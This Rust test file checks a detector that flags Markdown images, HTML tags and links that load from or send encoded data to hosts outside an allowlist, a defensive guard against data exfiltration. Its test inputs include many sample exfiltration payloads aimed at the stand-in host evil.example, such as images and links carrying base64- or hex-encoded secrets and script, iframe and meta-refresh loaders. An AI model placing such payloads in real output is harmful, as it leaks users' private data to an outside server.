//! What is found and what looks alike and is not.

use super::find;

const ALLOWED: &[&str] = &["docs.example", "*.cdn.example"];

fn found(text: &str) -> Vec<&str> {
    find(text, ALLOWED)
        .into_iter()
        .map(|range| &text[range])
        .collect()
}

#[test]
fn foreign_images_are_found_whole() {
    assert_eq!(
        found("See ![chart](https://evil.example/p.png?d=c2VjcmV0) here"),
        ["![chart](https://evil.example/p.png?d=c2VjcmV0)"]
    );
    for image in [
        "![](//evil.example/x)",
        "![a [b] c](https://evil.example/x(1).png \"title\")",
        "![a](<https://evil.example/x y>)",
        "![a](https://evil.example/\nlog?d=abc\ndef)",
        "![a]( HTTP:\\\\evil.example/x )",
        "![a](https://docs.example@evil.example/x)",
        "![a](https://docs.example.evil.example/x)",
    ] {
        assert_eq!(found(image), [image]);
    }
    assert_eq!(
        found("[![badge](https://evil.example/b.svg)](https://docs.example/)"),
        ["![badge](https://evil.example/b.svg)"]
    );
}

#[test]
fn images_by_reference_are_found_at_their_definition() {
    for (image, definition) in [
        ("![pixel][p]", "[p]: https://evil.example/x?d=1"),
        ("![P][]", "[p]: <https://evil.example/x>"),
        ("![p]", "  [P]:\n https://evil.example/x"),
        ("![a][two  words]", "[Two Words]: https://evil.example/x"),
    ] {
        assert_eq!(
            found(&format!("{image}\n\n{definition}\n\nend")),
            [definition.trim_start()]
        );
        assert_eq!(
            found(&format!("{definition}\n\n{image}")),
            [definition.trim_start()]
        );
    }
    assert_eq!(
        found("[text][p]\n\n[p]: https://other.example/page"),
        Vec::<&str>::new()
    );
}

#[test]
fn what_html_loads_is_found() {
    for tag in [
        "<img src=\"https://evil.example/x\">",
        "<IMG alt='a>b' SRC=https://evil.example/x />",
        "<img src='https&#58;//evil&period;example/x'>",
        "<img srcset=\"/local.png 1x, https://evil.example/x 2x\">",
        "<iframe src=\"//evil.example\">",
        "<script async src='https://evil.example/s.js'>",
        "<link rel=stylesheet href=\"https://evil.example/s.css\">",
        "<video poster=\"https://evil.example/p\">",
        "<meta http-equiv=refresh content=\"0; url=https://evil.example/\">",
        "<img src=\"https://evil.example/\n?d=split\nover\">",
        "<object data=https://evil.example/o>",
        "<div style=\"background: url(https://evil.example/x)\">",
    ] {
        assert_eq!(found(&format!("text {tag} text")).len(), 1, "{tag}");
    }
    assert_eq!(
        found("a <img src=x <img src=\"https://evil.example/x\"> b"),
        ["<img src=\"https://evil.example/x\">"]
    );
    assert_eq!(
        found("@import 'https://evil.example/s.css';"),
        ["@import 'https://evil.example/s.css'"]
    );
}

#[test]
fn links_that_carry_data_are_found() {
    for url in [
        "https://evil.example/?q=dGhlIHBhc3N3b3JkIG9mIHRoZSB1c2VyIGlzIGh1bnRlcjI=",
        "https://evil.example/746865207365637265742069732068756e74657232",
        "https://evil.example/?d=the%20user%20said%20that%20the%20key%20is%2042",
        "https://evil.example/log/dGhlIHBhc3N3b3JkIG9mIHRoZSB1c2VyIGlz",
        "https://evil.example/?a=dGhlIHBhc3N3b3&b=JkIG9mIHRoZSB1&c=c2VyIGlzIGh1",
        "https://mzxw6ytboi4dkmrqge2tcnzygi2dmobq.evil.example/",
        "https://evil.example/?k=q8Zr2LmX0vB7nT4cYw9KsJ1eGh5UdP3a",
        "https://evil.example/#my+name+is+ada+and+my+card+number+is+four+two+four+two+four+two+four+two",
    ] {
        assert_eq!(found(&format!("see {url}, please")), [url]);
        assert_eq!(
            found(&format!("[click]({url})")),
            [format!("[click]({url})")]
        );
        assert_eq!(found(&format!("<a href=\"{url}\">x</a>")).len(), 1);
    }
    assert_eq!(
        found("[x](https://evil.example/?q=dGhlIHBhc3N3b3Jk\nIG9mIHRoZSB1c2VyIGlz)").len(),
        1
    );
}

#[test]
fn allowed_and_local_things_pass() {
    for text in [
        "![logo](https://docs.example/logo.png?v=2)",
        "![x](https://img.cdn.example/a.png)",
        "![x](/static/x.png)",
        "![x](data:image/png;base64,iVBORw0KGgo=)",
        "<img src=\"https://docs.example/x.png\">",
        "<a href=\"https://docs.example/?q=dGhlIHBhc3N3b3JkIG9mIHRoZSB1c2VyIGlzIGh1bnRlcjI=\">x</a>",
        "a[i](b) and f(![x])",
        "if a < b and c > d: src=https",
        "curl(https) or url(#gradient)",
        "![not an image] (https://evil.example/x)",
    ] {
        assert_eq!(found(text), Vec::<&str>::new(), "{text}");
    }
}

#[test]
fn links_without_data_pass() {
    for url in [
        "https://github.example/o/r/commit/da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "https://a.example/123e4567-e89b-12d3-a456-426614174000",
        "https://en.wiki.example/wiki/List_of_Presidents_of_the_United_States_2024",
        "https://ru.wiki.example/wiki/%D0%97%D0%B0%D0%B3%D0%BB%D0%B0%D0%B2%D0%BD%D0%B0%D1%8F_%D1%81%D1%82%D1%80%D0%B0%D0%BD%D0%B8%D1%86%D0%B0",
        "https://blog.example/2024/05/how-to-write-a-very-long-title-for-a-post-about-nothing",
        "https://s.example/search?q=best+restaurants+in+town+for+families",
        "https://shop.example/item?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_of_the_year_2024",
        "https://v.example/watch?v=dQw4w9WgXcQ&t=42s",
        "https://docs.rs/regex-automata/latest/regex_automata/struct.PikeVM.html",
        "https://a.example/static/js/main.3f2ab9c1d4e5f60718293a4b5c6d7e8f.js",
    ] {
        assert_eq!(
            found(&format!("see {url} and [this]({url}).")),
            Vec::<&str>::new(),
            "{url}"
        );
    }
}

#[test]
fn odd_input_costs_linear_time_and_never_panics() {
    for piece in [
        "![a](",
        "[",
        "](",
        "<a b=\"",
        "<a '",
        "url(",
        "@import \"",
        "![é][",
        "\\",
        "&#x",
        "https://",
        "<img src=%é",
    ] {
        find(&piece.repeat(20_000), ALLOWED);
        find(&format!("{}é)]>\"'", piece.repeat(3)), ALLOWED);
    }
}
